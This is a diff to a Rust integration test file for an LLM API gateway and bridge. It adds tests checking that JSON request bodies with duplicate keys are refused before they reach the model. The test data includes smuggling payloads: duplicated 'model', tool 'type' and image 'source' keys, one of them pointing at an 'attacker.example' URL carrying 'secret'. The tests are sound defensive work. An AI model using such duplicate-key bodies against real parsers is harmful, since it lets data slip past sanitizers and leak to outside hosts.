@@ -1,7 +1,8 @@
 //! Attacks on the money and on what leaves the host, through the real gateway and bridge
 //! processes against `fakellm`: hanging up before the response head (the budget must still see
 //! what upstream billed), media with URL sources (refused before any upstream call, and when
-//! allowed the overshoot stays within the ledger's bound), and upstream redirects (never
+//! allowed the overshoot stays within the ledger's bound), duplicate keys (refused at any depth,
+//! since untouched members go upstream as the client's bytes), and upstream redirects (never
 //! followed, so no key, token or prompt reaches another listener).
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
@@ -287,6 +288,95 @@ async fn url_sources_are_refused_before_any_upstream_call() {
         "invalid_request_error"
     );
     assert!(fake.requests().unwrap().is_empty());
+}
+
+// ---- duplicate keys ------------------------------------------------------------------------
+
+async fn send_text(sock: &Path, body: String) -> UnixResponse {
+    let auth = format!("Bearer {TOKEN}");
+    unix_request(
+        sock,
+        "POST",
+        "/v1/messages",
+        &[
+            ("content-type", "application/json"),
+            ("authorization", auth.as_str()),
+        ],
+        body,
+    )
+    .await
+    .unwrap()
+}
+
+/// Bodies a parser keeping the first of two duplicate keys would read differently from one
+/// keeping the last: the sanitizer's output copies untouched members as their raw text, so it
+/// must refuse them all.
+fn duplicate_bodies(model: &str) -> [String; 3] {
+    [
+        format!(
+            r#"{{"model":"{model}","max_tokens":100,"messages":[{{"role":"user","content":"hi"}}],"model":"{model}"}}"#
+        ),
+        format!(
+            r#"{{"model":"{model}","max_tokens":100,"messages":[{{"role":"user","content":"hi"}}],"tools":[{{"name":"web_search","type":"web_search_20250305","type":"custom","input_schema":{{}}}}]}}"#
+        ),
+        format!(
+            r#"{{"model":"{model}","max_tokens":100,"messages":[{{"role":"user","content":[{{"type":"tool_result","tool_use_id":"t","content":[{{"type":"image","source":{{"type":"url","url":"https://attacker.example/?d=secret"}},"source":{{"type":"base64","media_type":"image/png","data":"AAAA"}}}}]}}]}}]}}"#
+        ),
+    ]
+}
+
+#[tokio::test]
+async fn duplicate_keys_are_refused_before_any_upstream_call() {
+    let fake = FakeLlm::scripted(&json!({"fallback": {"text": "ok"}})).unwrap();
+    // URL sources allowed: the duplicate `source` must be refused for being a duplicate.
+    let gw = gateway(&fake, "http://127.0.0.1:9", "allow_url_sources = true");
+    open(&gw, "dups", "local", json!({"tokens": 10_000})).await;
+    let sock = gw.task_socket("dups");
+    for body in duplicate_bodies("x") {
+        let r = send_text(&sock, body.clone()).await;
+        assert_eq!(r.status, 400, "{body}: {}", r.text());
+        assert_eq!(error_type(&r.body), "invalid_request_error");
+        assert!(r.text().contains("duplicate key"), "{}", r.text());
+    }
+    assert!(
+        fake.requests().unwrap().is_empty(),
+        "a body with a duplicate key reached the model: {:?}",
+        fake.requests().unwrap()
+    );
+    // The same requests without the duplicate pass, with their members as sent.
+    let r = send_text(
+        &sock,
+        r#"{"model":"x","max_tokens":100,"zz_unknown":{"keep":[1,2.5,"é"]},"messages":[{"role":"user","content":"hi"}]}"#.into(),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    let seen = fake.requests().unwrap();
+    assert_eq!(seen.len(), 1);
+    assert_eq!(seen[0]["body"]["model"], "local-upstream", "{}", seen[0]);
+    assert_eq!(
+        seen[0]["body"]["zz_unknown"],
+        json!({"keep": [1, 2.5, "é"]})
+    );
+
+    // The bridge's Anthropic passthrough refuses them too.
+    let provider = FakeLlm::scripted(&json!({"fallback": {"text": "ok"}})).unwrap();
+    let bridge = bridge(&provider.base_url());
+    for body in duplicate_bodies("claude") {
+        let r = reqwest::Client::new()
+            .post(format!("{}/v1/messages", bridge.base_url()))
+            .bearer_auth(BRIDGE_TOKEN)
+            .header("content-type", "application/json")
+            .body(body.clone())
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status().as_u16(), 400, "{body}");
+        assert_eq!(
+            error_type(&r.bytes().await.unwrap()),
+            "invalid_request_error"
+        );
+    }
+    assert!(provider.requests().unwrap().is_empty());
 }
 
 async fn send_owned(sock: std::path::PathBuf, body: Value) -> UnixResponse {
